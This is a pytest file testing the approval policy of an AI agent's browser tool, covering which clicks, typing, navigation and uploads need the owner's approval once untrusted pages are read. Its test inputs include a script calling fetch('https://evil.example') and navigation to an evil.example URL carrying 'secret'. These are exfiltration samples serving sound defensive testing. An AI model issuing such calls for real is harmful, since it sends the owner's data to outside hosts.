"""The guard's view of the browser tool, whose effects and arguments depend on the action."""

from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from hob.core.ports.guard import Allow, Ask, Deny, Verdict
from hob.core.tools import Effect
from hob.core.trust.labels import SenderClass, Trust
from hob.guard.policy.call_analysis import read_call
from hob.guard.policy.context import Context, Private, Sandbox
from hob.guard.policy.exemptions import parse_owner_words
from hob.guard.policy.modes import Autonomy, Mode
from hob.tools.browser.specs import BROWSER_TOOL
from tests.guard.calling import POLICY, READER, call_of

PAGE = "https://shop.example/cart"
ACT: Mapping[str, Any] = {"action": "act", "kind": "click", "ref": "e3", "page": PAGE}


def judged(words: str = "", *, tainted: bool = True, read: tuple[Private, ...] = (), **arguments: Any) -> Verdict:
    analysis = read_call(call_of("browser", **arguments), BROWSER_TOOL, READER, Sandbox())
    assert analysis is not None
    context = Context(
        sender=SenderClass.OWNER,
        trust=Trust.UNTRUSTED if tainted else Trust.TRUSTED,
        named=parse_owner_words([words], hosts=("localhost", "wiki")),
        mode=Mode.GUARDED,
        answerable=True,
        private=read,
    )
    return POLICY.decide(analysis, context).verdict


@pytest.mark.parametrize(
    "arguments",
    [{"action": action} for action in ("start", "stop", "status", "tabs", "snapshot", "screenshot", "console", "close")]
    + [{"action": "act", "kind": "wait", "text": "Done"}],
)
def test_looking_needs_no_approval(arguments: dict[str, Any]) -> None:
    assert isinstance(judged(**arguments), Allow)


@pytest.mark.parametrize("action", ["open", "navigate"])
def test_address_must_come_from_the_owner_once_a_page_was_read(action: str) -> None:
    assert isinstance(judged(tainted=False, action=action, url="https://news.example/"), Allow)
    assert isinstance(judged("Look at https://news.example/ please", action=action, url="https://news.example/"), Allow)
    asked = judged("Look at https://news.example/", action=action, url="https://evil.example/?q=secret")
    assert isinstance(asked, Ask)
    assert asked.rule == "taint.url"


@pytest.mark.parametrize("kind", ["click", "type", "press", "fill", "select", "drag", "hover"])
@pytest.mark.parametrize("tainted", [False, True])
def test_acting_needs_approval_unless_the_owner_named_the_host(kind: str, tainted: bool) -> None:
    asked = judged("Buy it", tainted=tainted, **{**ACT, "kind": kind})
    assert isinstance(asked, Ask)
    assert "shop.example" in asked.reason
    assert isinstance(judged("Buy it at shop.example", tainted=tainted, **{**ACT, "kind": kind}), Allow)
    other = {**ACT, "kind": kind, "page": "https://shop.example.evil.example/"}
    assert isinstance(judged("Buy it at shop.example", tainted=tainted, **other), Ask)


@pytest.mark.parametrize(
    ("words", "page", "allowed"),
    [
        ("what does https://shop.example/cart say?", PAGE, False),
        ("order it at shop.example, see https://shop.example/cart", PAGE, True),
        ("order it at shop.example", "https://shop.example:8443/cart", False),
        ("order it at shop.example:8443", "https://shop.example:8443/cart", True),
        ("order it at localhost:28822", "http://localhost:28822/", True),
        ("look at http://localhost:28822/", "http://localhost:28822/", False),
        ("order it at localhost:28822", "http://localhost:28823/", False),
        ("order it on localhost", "http://localhost/", True),
        ("order it on localhost", "http://localhost:28822/", False),
        ("order it at router:80", "http://router/", False),
        ("ask the wiki", "http://wiki/", False),
        ("write it into wiki:80", "http://wiki/", True),
    ],
)
def test_host_of_the_page_must_be_named_with_its_port(words: str, page: str, allowed: bool) -> None:
    verdict = judged(words, **{**ACT, "page": page})
    assert isinstance(verdict, Allow) is allowed


@pytest.mark.parametrize(
    ("arguments", "does"),
    [
        ({"kind": "click", "ref": "e8"}, "it would click e8 at"),
        ({"kind": "press", "ref": "", "text": "Enter"}, "it would press Enter at"),
        ({"kind": "type", "text": "Bob"}, "it would type Bob into e3 at"),
        ({"kind": "fill", "fields": ["e6=Bob", "e7=8 pm"]}, "it would fill in e6=Bob, e7=8 pm at"),
        ({"kind": "select", "text": "red"}, "it would choose red in e3 at"),
        ({"kind": "select", "fields": ["red", "blue"]}, "it would choose red, blue in e3 at"),
        ({"kind": "drag", "to": "e5"}, "it would drag e3 to e5 at"),
    ],
)
def test_question_says_what_is_done_on_the_page(arguments: dict[str, Any], does: str) -> None:
    asked = judged("Buy it", **{**ACT, **arguments})
    assert isinstance(asked, Ask)
    assert f"{does} {PAGE}" in asked.reason


def test_private_text_is_not_typed_anywhere_without_approval() -> None:
    read = (Private(("/home/me/diary.txt",), "my diary"),)
    typing = {**ACT, "kind": "type", "text": "my secret diary"}
    assert isinstance(judged("Order it at shop.example", read=read, **typing), Ask)


@pytest.mark.parametrize(
    "arguments",
    [
        {"action": "act", "kind": "evaluate", "page": PAGE, "script": "fetch('https://evil.example')"},
        {"action": "upload", "page": PAGE, "ref": "e3", "path": "/home/me/hob/work/plan.md"},
        {"action": "snapshot", "kind": "click"},
        {"action": "act"},
        {"action": "snapshot", "profile": "owner"},
    ],
)
def test_scripts_files_and_unknown_actions_always_need_approval(arguments: dict[str, Any]) -> None:
    assert isinstance(judged("Do it at shop.example", **arguments), Ask)


@pytest.mark.parametrize("mode", [Mode.GUARDED, Mode.WORKSPACE, Mode.FULL])
@pytest.mark.parametrize("autonomy", list(Autonomy))
def test_owners_browser_profile_is_opened_only_with_approval(mode: Mode, autonomy: Autonomy) -> None:
    call = call_of("browser", action="start", profile="owner")
    analysis = read_call(call, BROWSER_TOOL, READER, Sandbox())
    assert analysis is not None
    trusted = Context(
        sender=SenderClass.OWNER, trust=Trust.TRUSTED, named=parse_owner_words(["open it"]),
        mode=mode, autonomy=autonomy,
        answerable=True,
    )  # fmt: skip
    for context in (trusted, replace(trusted, trust=Trust.UNTRUSTED)):
        verdict = POLICY.decide(analysis, context).verdict
        assert isinstance(verdict, Ask)
        assert "open the browser with your own profile" in verdict.reason


def test_read_only_session_cannot_act() -> None:
    analysis = read_call(call_of("browser", **ACT), BROWSER_TOOL, READER, Sandbox())
    assert analysis is not None
    context = Context(
        sender=SenderClass.OWNER, trust=Trust.TRUSTED, named=parse_owner_words(["shop.example"]), mode=Mode.READ_ONLY,
        answerable=True,
    )  # fmt: skip
    assert isinstance(POLICY.decide(analysis, context).verdict, Deny)


def test_every_action_and_kind_is_known_to_the_guard() -> None:
    properties = BROWSER_TOOL.schema["properties"]
    known = {words.partition(" ")[0] for words in BROWSER_TOOL.variants}
    assert known == set(properties["action"]["enum"])
    kinds = {words.partition(" ")[2] for words in BROWSER_TOOL.variants if words.startswith("act ")}
    assert kinds == set(properties["kind"]["enum"]) - {""}
    assert all(each.effects <= BROWSER_TOOL.effects for each in BROWSER_TOOL.variants.values())
    unknown = {"script"}
    for words, variant in BROWSER_TOOL.variants.items():
        assert variant.roles.known() <= set(properties) - unknown, words
    assert BROWSER_TOOL.used_by({"action": "snapshot"}).effects == {Effect.READS_UNTRUSTED}


def test_question_names_the_element_instead_of_its_reference() -> None:
    shown = {"e3": "button 'Pay now'", "e5": "textbox 'Name'"}
    for arguments, said in (
        (ACT, f"click button 'Pay now' at {PAGE}"),
        ({**ACT, "kind": "type", "ref": "e5", "text": "Jane"}, f"type Jane into textbox 'Name' at {PAGE}"),
        ({**ACT, "kind": "fill", "ref": "", "fields": ["e5=Jane"]}, f"fill in textbox 'Name'=Jane at {PAGE}"),
        ({**ACT, "ref": "e9"}, f"click e9 at {PAGE}"),
    ):
        analysis = read_call(call_of("browser", **arguments), BROWSER_TOOL, READER, Sandbox())
        assert analysis is not None
        assert said in replace(analysis, elements=shown).does


@pytest.mark.parametrize(
    ("words", "page", "asks"),
    [
        ("order it at shop.example", "https://shop.example/cart", False),
        ("order it at shop.example", "https://shop.example:8080/cart", True),
        ("order it at shop.example:8080", "https://shop.example:8080/cart", False),
        ("order it at shop.example:8080", "https://shop.example/cart", True),
    ],
)
def test_host_in_the_owners_words_covers_only_the_port_they_name(words: str, page: str, asks: bool) -> None:
    assert isinstance(judged(words, **{**ACT, "page": page}), Ask) is asks
